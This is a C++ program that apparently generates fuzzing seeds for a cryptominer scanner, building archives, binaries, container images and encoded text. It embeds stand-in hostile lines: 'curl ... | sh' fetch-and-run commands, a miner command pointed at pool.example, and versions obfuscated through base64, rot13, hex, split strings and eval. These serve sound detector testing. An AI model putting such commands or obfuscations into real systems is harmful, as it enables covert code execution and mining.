// Writes what fuzzing starts from where bytes are not written by hand: seeds DIRECTORY makes files
// DIRECTORY/TARGET/NAME with the builders of the unit tests and from testdata/.  The same every
// time.

#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <iostream>
#include <iterator>
#include <string>
#include <utility>

#include "base/wire.h"
#include "model/record_bytes.h"
#include "support/archives.h"
#include "support/elf_file.h"
#include "support/encodings.h"
#include "support/gpu_archives.h"
#include "support/image_bytes.h"
#include "support/pe_file.h"
#include "support/sample_record.h"
#include "support/squashfs_file.h"
#include "support/upx_file.h"
#include "support/wrapped.h"

namespace {

using namespace minescan;
using namespace minescan::test;
using std::string_literals::operator""s;

const std::string kText = "MARKER curl -s http://x.example | sh\n";
const std::string kCommand = "./m -o stratum+tcp://pool.example:3333 -u w.rig -p x -a rx/0\n";

std::filesystem::path directory;  // where all goes

void write(const std::string& target, const std::string& name, const std::string& bytes) {
  std::filesystem::create_directories(directory / target);
  std::ofstream file(directory / target / name, std::ios::binary);
  file << bytes;
  if (!file.flush()) {
    std::cerr << "cannot write " << directory / target / name << "\n";
    std::exit(1);
  }
}

std::string stored(const std::string& name) {
  std::ifstream file(MINESCAN_SOURCE_DIR "/testdata/" + name, std::ios::binary);
  if (!file) {
    std::cerr << "cannot read testdata/" << name << "\n";
    std::exit(1);
  }
  return {std::istreambuf_iterator<char>(file), {}};
}

// --- unpack: what is packed, with the format's name in the first line

std::string a_tar() {
  return tar_entry({.name = "././@LongLink", .body = std::string(120, 'n') + "\0"s, .type = 'L'}) +
         pax_header(pax_record("path", "a/b") + pax_record("size", "3")) +
         tar({{.name = "dir/", .type = '5'},
              {.name = "file", .body = kText},
              {.name = "link", .type = '2', .target = "file"},
              {.name = "hard", .type = '1', .target = "file"},
              {.name = "big", .size_field = "\x80\0\0\0\0\0\0\0\0\0\0\3"s}});
}

std::string a_sparse_tar() {
  return pax_header(pax_record("GNU.sparse.major", "1") + pax_record("GNU.sparse.minor", "0") +
                    pax_record("GNU.sparse.name", "s") +
                    pax_record("GNU.sparse.realsize", "1024")) +
         tar({{.name = "GNUSparseFile.0/s", .body = padded("1\n512\n3\n", 512) + "abc"}});
}

std::string a_zip() {
  return "junk" + zip({{.name = "stored", .body = kText},
                       {.name = "deflated", .body = kText, .method = 8},
                       {.name = "behind", .body = kText, .method = 8, .descriptor = true},
                       {.name = "wide", .body = kText, .descriptor = true, .descriptor_wide = true},
                       {.name = "zstd", .body = kText, .method = 93, .packed = zstd(kText)},
                       {.name = "hidden", .body = kText, .listed = false},
                       {.name = "locked", .body = kText, .flags = 1}},
                      "comment");
}

std::string an_rpm() {
  const auto header = [](const std::string& data) {
    return "\x8e\xad\xe8\x01\0\0\0\0"s + big32(1) + big32(data.size()) + std::string(16, 'i') +
           data;
  };
  return "\xed\xab\xee\xdb\x03\0"s + std::string(90, '\0') + header("12345678") +
         header("postinstall: " + kCommand) +
         gzip(cpio_newc({.name = "f", .body = kText}) + cpio_newc({.name = "TRAILER!!!"}));
}

void unpack() {
  const auto seed = [](const std::string& format, const std::string& name,
                       const std::string& bytes) {
    write("unpack_fuzz", name, format + "\n" + bytes);
  };
  seed("tar", "tar", a_tar());
  seed("tar", "tar-sparse", a_sparse_tar());
  seed("zip", "zip", a_zip());
  seed("ar", "ar",
       "!<arch>\n" + ar_member("//", "a_very_long_object_name.o/\n") + ar_member("/0", "one") +
           ar_member("#1/4", "namebody") + ar_member("debian-binary", "2.0\n"));
  const CpioSpec file{.name = "file", .body = kText};
  const CpioSpec link{.name = "link", .body = "file", .mode = 0120777};
  const CpioSpec end{.name = "TRAILER!!!", .mode = 0};
  seed("cpio", "cpio-newc", cpio_newc(file) + cpio_newc(link) + cpio_newc(end));
  seed("cpio", "cpio-odc", cpio_odc(file) + cpio_odc(link) + cpio_odc(end));
  seed("cpio", "cpio-little", cpio_binary(file, false) + cpio_binary(end, false));
  seed("cpio", "cpio-big", cpio_binary(file, true) + cpio_binary(end, true));
  seed("rpm", "rpm", an_rpm());
  for (const char* name : {"lz4", "lzma", "lzo", "xz", "zstd", "all"}) {
    seed("squashfs", "squashfs-"s + name, stored("squashfs/"s + name + ".squashfs"));
  }
  seed("squashfs", "squashfs-plain", squashfs({{"a", kText}, {"b", kCommand}}).bytes);
  seed("asar", "asar",
       asar(R"({"files":{"a.js":{"offset":"0","size":5},"d":{"files":{"b":{"offset":"5","size":3)"
            R"(,"executable":true},"l":{"link":"a.js"},"u":{"unpacked":true,"size":9}}}}})",
            "aaaaabbb"));
  seed("node-sea", "sea",
       sea({.flags = 12, .script = kText, .code_cache = "cache", .assets = {{"a", "asset"}}}));
  using Packing = FatbinSpec::Packing;
  const std::string ptx =
      ".version 8.0\n.target sm_75\n.entry search() { mov.u32 %r1, 1116352408; }";
  seed("fatbin", "fatbin",
       fatbin({{.kind = 1, .body = ptx, .source = "a.cu"},
               {.body = ptx, .packing = Packing::lz4},
               {.body = ptx, .packing = Packing::zstd}}));
  seed("offload-bundle", "bundle",
       offload_bundle({{.name = "host-x86_64-unknown-linux--", .body = ""},
                       {.name = "hipv4-amdgcn-amd-amdhsa--gfx906", .body = kText}}));
  seed("offload-package", "package", offload_package("sm_90", kText));
  for (const unsigned version : {1U, 2U, 3U}) {
    seed("ccob", "ccob-" + std::to_string(version), ccob(version, 1, zstd(kText), kText.size()));
  }
  seed("ccob", "ccob-zlib", ccob(2, 0, zlib_of(kText), kText.size()));
  seed("gzip", "gzip", gzip(kText) + gzip(kCommand) + "tail");
  seed("gzip", "gzip-stored", gzip_around(kText, stored_deflate(kText)));
  seed("zlib", "zlib", zlib_of(kText));
  seed("zstd", "zstd", skippable("note") + zstd(kText) + zstd(numbers(2000), 19));
  seed("xz", "xz", xz(kText) + "\0\0\0\0"s + xz(kCommand));
  seed("lzma", "lzma", lzma_alone(kText));
  // "hello\n" as lzip writes it, with a dictionary of 4 KiB.
  seed("lzip", "lzip",
       "LZIP\x01\x0c\x00\x34\x19\x49\xee\x8d\xdd\x3d\x3a\xdf\xff\xff\xdd\x12\x00\x00\x20\x30\x3a"
       "\x36\x06\x00\x00\x00\x00\x00\x00\x00\x2a\x00\x00\x00\x00\x00\x00\x00"s);
  seed("bzip2", "bzip2", bzip2(kText) + bzip2(kCommand));
  seed("lz4", "lz4", lz4(kText) + skippable("note") + lz4(kCommand));
  seed("raw-deflate", "deflate", raw_deflate(kText));
  write("unpack_fuzz", "recognised-tar", tar({{.name = "a", .body = kText}}));
  write("unpack_fuzz", "embedded",
        "program" + gzip(kText) + xz(kText) + fatbin({{.body = ptx}}) + bzip2(kText) + zstd(kText) +
            offload_package("gfx906", "x"));
}

// --- inspect

std::string spirv() {
  std::string bytes;
  for (const std::uint32_t word :
       {0x07230203U, 0x00010300U, 0x00080001U, 100U,        0U,          0x00020011U, 4U,
        0x0005000fU, 6U,          1U,          0x72616573U, 0x00006863U, 0x0004002bU, 2U,
        3U,          0x428a2f98U, 0x00040032U, 2U,          6U,          7U}) {
    bytes += little(word);
  }
  return bytes;
}

std::string metallib() {
  const std::string tags = "NAME" + little(std::uint16_t{7}) + "search\0"s + "TYPE" +
                           little(std::uint16_t{1}) + "\2" + "ENDT";
  const std::string list =
      little(std::uint32_t{1}) + little(static_cast<std::uint32_t>(tags.size() + 4)) + tags;
  std::string bytes = "MTLB" + std::string(12, '\0') + little64(88 + list.size()) + little64(88) +
                      little64(list.size());
  for (int i = 0; i < 3; ++i) bytes += little64(88) + std::string(8, '\0');
  return bytes + list;
}

ElfSpec amd_object() {
  const std::string metadata =
      "\x82\xae"
      "amdhsa.kernels\x91\x82\xa5.args\x91\x81\xa5.name\xa5nonce\xa5.name\xa6search"
      "\xad"
      "amdhsa.target\xd9\x20"
      "amdgcn-amd-amdhsa--gfx90a:xnack-";
  ElfSpec spec;
  spec.machine = 224;
  spec.os_abi = 0x40;
  spec.flags = 0x3f;
  spec.sections = {{.name = ".text", .body = std::string(64, 'c'), .flags = 6},
                   {.name = ".note", .body = elf_note("AMDGPU", 32, metadata), .type = 7}};
  spec.symbols = {{.name = "search.kd", .info = 0x11}};
  return spec;
}

std::string zebin() {
  ElfSpec spec;
  spec.type = 0xff12;
  spec.machine = 205;
  spec.sections = {{.name = ".text.search", .body = "code", .flags = 6},
                   {.name = ".ze_info", .body = "kernels:\n  - name:  other\n    simd: 16\n"},
                   {.name = ".spv", .body = spirv()}};
  return ElfFile(spec).bytes;
}

std::string wasm() {
  const auto section = [](char id, const std::string& body) {
    return id + std::string(1, static_cast<char>(body.size())) + body;
  };
  return "\0asm\1\0\0\0"s + section('\2', "\1\3env\5nonce\0\0"s) + section('\7', "\1\4hash\0\1"s) +
         section('\x0a', "\1\x09\0\x41\x98\xdf\xa8\x92\x04\x1a\x0b"s) +
         section('\x0b', "\1\0\x41\x80\x08\x0b\7a table"s) +
         section('\0', "\4name\1\x0a\1\1\7cn_hash"s);
}

std::string java_class() {
  const auto text = [](const std::string& value) {
    return "\1\0"s + static_cast<char>(value.size()) + value;
  };
  return "\xca\xfe\xba\xbe\0\0\0\x41\0\x0b"s + text("example/Worker") + "\7\0\1\5"s +
         std::string(8, 'x') + text("java/lang/Thread") + "\7\0\5"s + text("start") + text("()V") +
         "\x0c\0\7\0\x08\x0a\0\6\0\x09\0\x21\0\2rest"s;
}

// A segment with a section, symbols and a library.
std::string macho() {
  const auto word = [](std::uint64_t value) { return little32(value); };
  const auto field = [](std::string text, std::size_t size) {
    text.resize(size, '\0');
    return text;
  };
  const auto command = [&](std::uint32_t number, const std::string& body) {
    const std::string whole = field(body, (body.size() + 7) / 8 * 8);
    return word(number) + word(8 + whole.size()) + whole;
  };
  const std::string symbols = word(1) + "\x0f\1\0\0"s + little64(0x10200);
  const std::string names = "\0_serve\0"s;
  const std::string all =
      command(0x19, field("__TEXT", 16) + little64(0x10000) + little64(0x1000) + little64(0) +
                        little64(1024) + word(7) + word(5) + word(1) + word(0) +
                        field("__text", 16) + field("__TEXT", 16) + little64(0x10200) +
                        little64(4) + word(512) + word(0) + word(0) + word(0) + word(0x80000400) +
                        std::string(12, '\0')) +
      command(2, word(1024) + word(1) + word(1024 + symbols.size()) + word(names.size())) +
      command(0xc, word(24) + word(0) + word(0) + word(0) + "/usr/lib/liba.dylib\0"s) +
      command(0x1b, "0123456789abcdef");
  return field(word(0xfeedfacf) + word(0x100000c) + word(0) + word(2) + word(4) + word(all.size()) +
                   word(0) + word(0) + all,
               1024) +
         symbols + names;
}

std::string go_program() {
  const std::string modules = std::string(16, '<') +
                              "path\tcode.example/a/cmd\nmod\tcode.example/a\tv1.2.0\th1:x=\n"
                              "dep\tcode.example/b\tv0.3.1\th1:y=\nbuild\t-ldflags=\"-s -w\"\n" +
                              std::string(16, '>');
  std::string info = "\xff Go buildinf:\x08\x02"s;
  info.resize(32, '\0');
  info += "\x08go1.21.3"s + static_cast<char>(0x80 | (modules.size() & 0x7f)) +
          static_cast<char>(modules.size() >> 7) + modules;
  const std::string names = "main.main\0code.example/b.(*Client).Login\0"s;
  std::string table =
      little32(0xfffffff1) + "\0\0\1\x08"s + little64(2) + little64(2) + little64(2);
  const std::size_t start = table.size() + 16;
  table += little64(start) + little64(start + names.size()) + names;
  ElfSpec spec;
  spec.sections = {{.name = ".go.buildinfo", .body = info, .flags = 3},
                   {.name = ".gopclntab", .body = table}};
  return ElfFile(spec).bytes;
}

std::string elf(unsigned bits, bool big_endian) {
  ElfSpec spec{.bits = bits, .big_endian = big_endian};
  const ElfSymbolTable dynamic =
      elf_symbols({{.name = ""}, {.name = "connect", .section = 0}}, bits, big_endian);
  spec.segments = {{.size = 4096}, {.type = 3, .offset = 64, .size = 16}};
  spec.sections = {{.name = ".text", .body = "code", .flags = 6},
                   {.name = ".dynsym", .body = dynamic.table, .type = 11, .link = 3},
                   {.name = ".dynstr", .body = dynamic.names, .type = 3},
                   {.name = ".note", .body = elf_note("GNU", 3, "id", big_endian), .type = 7}};
  spec.symbols = {{.name = "hash", .size = 4}};
  return ElfFile(spec).bytes;
}

void programs() {
  const auto seed = [](const std::string& name, const std::string& bytes) {
    write("programs_fuzz", name, "\x80" + bytes);
  };
  seed("elf64", elf(64, false));
  seed("elf32-big", elf(32, true));
  seed("elf-go", go_program());
  seed("pe64", PeFile({.sections = {{.name = ".text", .body = "code"},
                                    {.name = "UPX1", .body = "data", .flags = 0xc0000040}}})
                   .bytes);
  seed("pe32",
       PeFile({.bits = 32, .machine = 0x14c, .sections = {{.name = ".text", .body = "x"}}}).bytes);
  seed("macho", macho());
  seed("wasm", wasm());
  seed("java", java_class());
  seed("net", net_bundle(elf(64, false), {{"a.dll", kText}}));
}

void gpu() {
  const auto seed = [](int reader, const std::string& name, const std::string& bytes) {
    write("gpu_fuzz", name, static_cast<char>(reader) + bytes);
  };
  seed(0, "cubin", stored("gpu/built/vector_add.sm_90.cubin"));
  seed(1, "amdgpu", stored("gpu/built/vector_add.gfx1030.o"));
  seed(1, "amdgpu-note", ElfFile(amd_object()).bytes);
  seed(2, "zebin", zebin());
  seed(3, "spirv", spirv());
  seed(4, "metallib", metallib());
  seed(5, "ptx", stored("gpu/built/dag_search.ptx").substr(0, 3000));
  seed(6, "opencl", stored("gpu/dag_search.cl"));
  seed(7, "texts", stored("gpu/vector_add.cl") + "\0\n.version 8.0\n.target sm_75\n"s);
  seed(8, "msgpack",
       "\x83\xa1"s + "a\xc0\xa1"s + "b\x92\xcd\1\2\xd9\3xyz\xa1"s + "c\x81\xa1k\xa1v");
  seed(9, "wasm", wasm());
  seed(10, "aarch64", "\x00\x13\x9f\x52\x20\x51\xa8\x72\x1f\x20\x03\xd5\xc0\x03\x5f\xd6"s);
  seed(11, "objects", "pad " + spirv() + metallib() + ElfFile(amd_object()).bytes);
}

void upx() {
  int number = 0;
  for (const unsigned method : {2U, 5U, 8U, 14U}) {
    for (const unsigned bits : {32U, 64U}) {
      UpxElfSpec spec{.bits = bits, .method = method};
      if (bits == 32) spec.machine = 3;
      write("upx_fuzz", "elf-" + std::to_string(++number), "\x10" + upx_elf(spec).packed);
    }
  }
  write(
      "upx_fuzz", "elf-big",
      "\x10" + upx_elf({.bits = 32, .big_endian = true, .machine = 8, .block_size = 1024}).packed);
  write("upx_fuzz", "elf-filter", "\x10" + upx_elf({.filter = 0x49, .filter_value = 7}).packed);
  write("upx_fuzz", "pe64", "\x10" + upx_pe({}).packed);
  write("upx_fuzz", "pe32", "\x10" + upx_pe({.bits = 32, .method = 2}).packed);
}

void wrappers() {
  const auto seed = [](const std::string& name, const std::string& bytes) {
    write("wrappers_fuzz", name, "\0"s + bytes);
  };
  const std::string code =
      py_code({py_text("./m -o pool.example:3333"), py_tuple({py_text("curl"), py_text("-s")}),
               py_code({py_text("inner")})});
  const std::string host =
      "\x7f"
      "ELF" +
      std::string(256, 'h');
  seed("pyc", pyc(code));
  seed("pyinstaller", host + pyinstaller({{'s', "mine", code, true},
                                          {'z', "PYZ-00.pyz", pyz({{"mod", code}}), false},
                                          {'b', "lib.so",
                                           "\x7f"
                                           "ELF" +
                                               kText,
                                           true}}));
  seed("nexe", host + nexe(kText, "resources"));
  seed("pkg",
       host + pkg("payload" + kText, R"({"/snapshot/app/index.js":{"0":[7,20],"3":[27,10]}})"));
  seed("sea", host + sea({.script = kText}));
  seed("net", net_bundle(host, {{"a.dll", kText, true}, {"b.json", "{}"}}));
  seed("net-3", net_bundle(host, {{"a.dll", kText}}, 3));
}

void decoders() {
  const std::string hidden = "curl -s http://pool.example/x.sh | sh; ./m -o pool.example:3333";
  const auto seed = [](const std::string& name, const std::string& text) {
    write("decoders_fuzz", name, "\x21" + text);
  };
  const std::string base64 = base64_of(hidden);
  seed("base64", "echo " + base64 + " | base64 -d | sh\n" + base64_of(hidden, 76) + "\n");
  seed("base64-gzip", "x = \"" + base64_of(gzip(hidden + hidden)) + "\"\n");
  seed("rot13", "a='" + rot13_of(base64) + "'\n");
  seed("reversed", "b='" + std::string(base64.rbegin(), base64.rend()) + "'\n");
  seed("hex", each_byte(hidden, "%02x") + "\n" + each_byte(hidden, "\\x%02x") + "\n");
  seed("base32", base32_of(hidden) + "\n");
  seed("percent", each_byte(hidden, "%%%02x") + "\n");
  seed("codes", "String.fromCharCode(" + each_byte(hidden, "%u, ") + "0)\n");
  seed("joined", "s = '" + cut_up(hidden, 3, "' + '") + "'\n");
  seed("list", "var _0x1a = ['" + cut_up(hidden, 5, "', '") + "'];\n_0x1a.join('')\n");
  seed("names", "a='" + hidden.substr(0, 30) + "'\nb='" + hidden.substr(30) + "'\neval \"$a$b\"\n");
  seed("uuencode", "begin 644 x\n" + uuencoded(hidden + hidden) + "`\nend\n");
  seed("quoted", "=63=75=72=6C=20=2Ds=20http:=\n//pool.example/x=2Esh\n");
  write("decoders_fuzz", "program-base64",
        "\x20" + std::string(8, '\0') + base64_of(noise(300, 1)));
  write("decoders_fuzz", "program-xor",
        "\x20" + std::string(8, '\1') + xored("stratum+tcp://pool.example:3333\0"s, 0x5a));
}

// --- whole rooms

BlobSet image_blobs(std::string& index) {
  BlobSet blobs;
  const std::string layer = blobs.add(kLayerType, tar_bytes({{"bin/app", kText, '0', ""}}));
  const std::string config =
      blobs.add_config("linux", "amd64", {digest_of(layer)}, {"RUN " + kCommand});
  index = index_json({with(blobs.add_manifest(config, {layer}),
                           R"("annotations":{"org.opencontainers.image.ref.name":"latest"})")});
  return blobs;
}

void images() {
  std::string index;
  const BlobSet blobs = image_blobs(index);
  const std::string layout = tar_bytes(layout_members(blobs, index));
  write("images_fuzz", "archive-oci", "a" + layout);
  write("images_fuzz", "archive-gzip", "a" + gzip(layout));
  write("images_fuzz", "index", "d" + kIndexType + "\n" + index);
  for (const auto& [digest, bytes] : blobs.blobs) {
    if (bytes.starts_with("{\"schemaVersion\"") || bytes.find("\"layers\"") != std::string::npos) {
      write("images_fuzz", "manifest", "d" + kManifestType + "\n" + bytes);
    } else if (bytes.starts_with("{")) {
      write("images_fuzz", "config", "c" + bytes);
      write("installed_fuzz", "image-config", "config\n" + bytes);
    }
  }
  const std::string config = R"({"os":"linux","architecture":"amd64","rootfs":{"diff_ids":[]}})";
  write("images_fuzz", "archive-docker",
        "a" + tar_bytes({{"c.json", config, '0', ""},
                         {"l/layer.tar", tar_bytes({{"app", "x", '0', ""}}), '0', ""},
                         {"m/layer.tar", "", '2', "../l/layer.tar"},
                         {"manifest.json",
                          R"([{"Config":"c.json","RepoTags":["app:1"],"Layers":["l/layer.tar",)"
                          R"("m/layer.tar"]}])",
                          '0', ""}}));
}

// --- lockfiles and reports

// By the numbers that lockfiles_fuzz gives to formats.
void lockfiles() {
  const std::pair<int, const char*> files[] = {{0, "npm-v1.json"},      {0, "npm-v3.json"},
                                               {1, "yarn-v1.lock"},     {1, "yarn-v8.lock"},
                                               {2, "pnpm-v5.yaml"},     {2, "pnpm-v6.yaml"},
                                               {2, "pnpm-v9.yaml"},     {3, "bun.lock"},
                                               {4, "requirements.txt"}, {5, "poetry-1.lock"},
                                               {5, "poetry-2.lock"},    {6, "uv.lock"},
                                               {7, "pdm.lock"},         {8, "pylock.toml"},
                                               {9, "Pipfile.lock"},     {10, "Cargo-v1.lock"},
                                               {10, "Cargo-v4.lock"},   {11, "go.sum"},
                                               {12, "Gemfile.lock"},    {13, "packages.lock.json"},
                                               {14, "gradle.lockfile"}};
  for (const auto& [format, name] : files) {
    write("lockfiles_fuzz", name, static_cast<char>(format) + stored("lockfiles/"s + name));
  }
}

// Names that are meant to do something to whoever shows them, through each format.
void encoders() {
  const std::string names =
      "a\\\n::error file=x::y\\\n##[group]z\\\n\x1b[31mred\\\n<script>`|*_[x](y)\\\n"
      "\xe2\x80\xae.txt\\\n\xff\xc3\\\n%0A,:\\\n\"}],{\\\n\r\n\x7f\\\n@user #1 &amp;\\\n"s;
  for (char format = 0; format < 8; ++format) {
    write("encoders_fuzz", "format-" + std::to_string(format),
          static_cast<char>(0xff - format) + std::string(1, format) + names);
  }
}

void records() {
  write("record_fuzz", "sample", record_to_bytes(sample_record()));
  write("record_fuzz", "empty", record_to_bytes({}));
  // What judging puts together: evidence in several files, a whiteout, links.
  Record record;
  for (const char* indicator : {"a", "b", "c"}) {
    Evidence evidence{.indicator = indicator,
                      .trail = {{{Step::Kind::unit, "layer 0"}, {Step::Kind::member, "usr/x"}}},
                      .view = ViewKind::script,
                      .captures = {{"host", "pool.example"}, {"wallet", "w"}},
                      .excerpt = kCommand};
    record.evidence.push_back(evidence);
    evidence.trail.steps.back().name = "usr/"s + indicator;
    record.evidence.push_back(evidence);
  }
  using Kind = PathEntry::Kind;
  record.paths = {{"usr", Kind::directory, ""},         {"usr/x", Kind::file, ""},
                  {"usr/.wh.x", Kind::file, ""},        {"lib", Kind::symlink, "../usr"},
                  {"lib/.wh..wh..opq", Kind::file, ""}, {"usr/a", Kind::hardlink, "usr/x"}};
  record.packages = {{record.evidence[0].trail, "pkg:npm/x@1", "usr"}};
  record.contents = {{record.evidence[0].trail, "sha256:" + std::string(64, 'a')}};
  record.ledger = {.bytes = 10, .scanned = 10, .nodes = 1, .files = 1};
  write("judge_fuzz", "record", "r" + record_to_bytes(record));
  write("judge_fuzz", "record-sample", "r" + record_to_bytes(sample_record()));
}

// Numbers and texts, as base/wire.h has them.
struct Wire {
  WireWriter out;
  Wire& operator<<(int number) {
    out.number(static_cast<std::uint64_t>(number));
    return *this;
  }
  Wire& operator<<(const char* text) {
    out.text(text);
    return *this;
  }
};

// What workers answer, as lockfiles/apart.cpp, review/apart.cpp, simple_page.cpp,
// project_config.cpp, archive_headers.cpp and unpacked_archive.cpp write it.
void tasks() {
  const auto seed = [](const std::string& name, char whose, Wire&& wire) {
    write("tasks_fuzz", name, whose + wire.out.take());
  };
  const std::string digest(64, '0');
  seed("lockfile-wanted", 'l', std::move(Wire() << 1 << "d/e.txt"));
  seed("lockfile-error", 'l', std::move(Wire() << 0 << 0 << 8 << "requirements.txt:1: so"));
  Wire lockfile;
  lockfile << 0 << 1 << 1 << 2;
  lockfile << 1 << "a"
           << "1"
           << "" << 0 << "https://i.example"
           << ""
           << "" << 1 << "a-1.tar.gz"
           << "https://f.example/a" << 1 << "sha256" << digest.c_str() << 7 << 5
           << "requirements.txt" << 1;
  lockfile << 1 << "b"
           << ""
           << "c" << 2 << ""
           << "https://g.example/b.git"
           << "0123456789" << 0 << 0 << "c.txt" << 2;
  lockfile << 1 << "c.txt" << 1 << "so";
  seed("lockfile", 'l', std::move(lockfile));
  seed("facts", 'f',
       std::move(Wire() << 2 << 1 << "base image added: a" << 3 << "base image added: b"));
  seed("matches", 'm',
       std::move(Wire() << 1 << 3 << 2 << 0 << 0 << 3 << 0 << 0 << 3 << 3 << 2 << "a"
                        << "b"
                        << "c"
                        << "d" << 0 << 0));
  seed("matches-error", 'm', std::move(Wire() << 0 << 15 << "no memory"));
  seed("page", 's',
       std::move(Wire() << 1 << "https://b.example/" << 1 << "a-1.tar.gz"
                        << "a-1.tar.gz" << 1 << "sha256" << digest.c_str() << 3 << 1 << "why"));
  seed("page-error", 's', std::move(Wire() << 0 << 2 << "of version 2"));
  seed("npmrc", 'n',
       std::move(Wire() << 1 << "registry"
                        << "https://npm.example/"));
  seed("cargo", 'g',
       std::move(Wire() << 1 << 1 << "crates-io"
                        << "own"
                        << ""
                        << "" << 1 << "own"
                        << "sparse+https://own.example/"));
  seed("cargo-error", 'g', std::move(Wire() << 0 << "line 1: this is no TOML"));
  seed("archive", 'a',
       std::move(Wire() << 2 << "a" << 0 << 1536 << 3 << "" << 1 << 1 << "l" << 1 << 2560 << 0
                        << "a" << 1 << 1 << 1 << "odd" << 2 << 3072 << 512 << "state"));
  seed("archive-end", 'a', std::move(Wire() << 0 << 0 << 0));
  seed("archive-refused", 'a', std::move(Wire() << 0 << 0 << 1 << 1 << "has the member '../a'"));
  seed("unpacked", 'u', std::move(Wire() << "gzip" << 0));
  seed("unpacked-fault", 'u', std::move(Wire() << "zstd" << 2 << 1 << "so"));
  write("tasks_fuzz", "zipped", "z" + gzip(kText) + std::string(9, '\0'));
  write("tasks_fuzz", "zipped-followed", "z" + bzip2(kText) + "tail");
  write("tasks_fuzz", "tar", "t" + a_tar());
  write("tasks_fuzz", "tar-sparse", "t" + a_sparse_tar());
  write("tasks_fuzz", "tar-global",
        "t" + pax_header(pax_record("path", "g") + pax_record("linkpath", "h"), 'g') +
            tar({{.name = "a", .body = kText}, {.name = "b", .type = '2'}}) +
            std::string(600, 'j') + tar({{.name = "c", .body = "x", .type = 'Q'}}));
  const std::string id(40, 'a');
  Wire compared;
  compared << "/tree"
           << "HEAD (commit aaaaaaaaaaaa)"
           << "index" << 2;
  compared << "a/b" << 0 << "" << 1 << id.c_str();
  compared << "c" << 3 << id.c_str() << 0 << "";
  seed("git-compared", 'c', std::move(compared));
  seed("git-found", 'o', std::move(Wire() << 2 << 1 << id.c_str() << 0 << ""));
  seed("git-paths", 'p',
       std::move(Wire() << 2 << "a/b"
                        << "c"));
  seed("git-error", 'e', std::move(Wire() << 5 << "so"));
}

// As match/signed_pack.h and match/pack.cpp have it.
void packs() {
  const auto seed = [](const std::string& name, const std::string& bytes) {
    write("pack_fuzz", name, bytes);
  };
  const std::string head = "MSNSIGN1"s + std::string(8, '\0') + "0123456789abcdef" + "\7"s +
                           std::string(7, '\0') + std::string(8, '\0') + "\4name"s;
  seed("file", "f" + head + "what is packed" + std::string(64, 's'));
  seed("signature", "i" + head + "what is packed" + std::string(64, 's'));
  seed("bare", "fMSNPACK4");
  seed("change-version", "c\x20\0\1"s);
  seed("change-twice", "c\0\0\1\0\0\1"s);
  std::string parts = "MSNPACK4\3\0\0\0"s, bodies;
  const auto part = [&](const std::string& kind, const std::string& plain) {
    std::string stored = zstd(plain);
    for (char& byte : stored) byte = static_cast<char>(byte ^ 0x5c);
    parts += kind + little(static_cast<std::uint32_t>(stored.size())) +
             little(static_cast<std::uint32_t>(plain.size()));
    bodies += stored;
  };
  const auto text = [](const std::string& value) {
    return little(std::uint64_t{value.size()}) + value;
  };
  part("\0\0\0\0"s, std::string(24, '\0'));
  part("\0\1\0\0"s, text("sha256:1") + std::string(8, '\0'));
  part("\1\1\0\0"s, "\1"s + std::string(7, '\0') + text("a.yaml") + text("- indicator: a\n"));
  seed("sources", "s" + parts + bodies);
  seed("definitions", "d" + std::string(24, '\0'));
  seed("key",
       "k-----BEGIN PUBLIC KEY-----\n"
       "MCowBQYDK2VwAyEA11qYAYKxCrfVS/7TyWQHOg7hcvPapiMlrwIaaPcHURo=\n"
       "-----END PUBLIC KEY-----\n");
  seed("no-key", "p-----BEGIN PUBLIC KEY-----\nMC4CAQAw\n-----END PUBLIC KEY-----\n");
}

void whole() {
  const auto seed = [](int kind, const std::string& name, const std::string& bytes) {
    write("examine_fuzz", name, static_cast<char>(kind) + bytes);
  };
  const std::string script = "#!/bin/sh\nA=pool.example:3333\n./m -o $A -u w -a rx/0\necho " +
                             base64_of(gzip(kCommand)) + " | base64 -d | gunzip | sh\n";
  const std::string layer =
      tar({{.name = "usr/", .type = '5'},
           {.name = "usr/x", .body = script},
           {.name = "usr/.wh.y"},
           {.name = "a.zip", .body = zip({{.name = "b", .body = kCommand, .method = 8}})},
           {.name = "node_modules/p/package.json", .body = R"({"name":"p","version":"1.0.0"})"}});
  seed(0, "layer", layer);
  seed(0, "layer-gzip", gzip(layer));
  seed(0, "layer-zstd", zstd(layer));
  seed(1, "config",
       R"({"os":"linux","config":{"Env":["A=pool.example:3333"],"Entrypoint":)"
       R"(["/m","-o","$A"]},"history":[{"created_by":"RUN curl http://x.example"}]})");
  seed(3, "script", script);
  seed(3, "program", elf(64, false) + fatbin({{.kind = 1, .body = kCommand}}) + gzip(kCommand));
  seed(3, "pe", PeFile({.sections = {{.name = ".text", .body = kCommand}}}).bytes);
  seed(3, "upx", upx_elf({}).packed);
  seed(
      3, "wide", "\xff\xfe" + [] {
        std::string wide;
        for (const char c : kCommand) wide += c + "\0"s;
        return wide;
      }());
  seed(3, "gzip-gzip", gzip(gzip(kCommand) + "tail"));
  seed(3, "json", R"({"pools":[{"url":"pool.example:3333","user":"w","algo":"rx/0"}]})");
  seed(3, "pyc", pyc(py_code({py_text(kCommand.substr(0, 60))})));
  seed(4, "slice", layer);
}

}  // namespace

int main(int argc, char** argv) {
  if (argc != 2) {
    std::cerr << "seeds DIRECTORY\n";
    return 2;
  }
  directory = argv[1];
  unpack();
  programs();
  gpu();
  upx();
  wrappers();
  decoders();
  images();
  lockfiles();
  encoders();
  records();
  tasks();
  packs();
  whole();
}
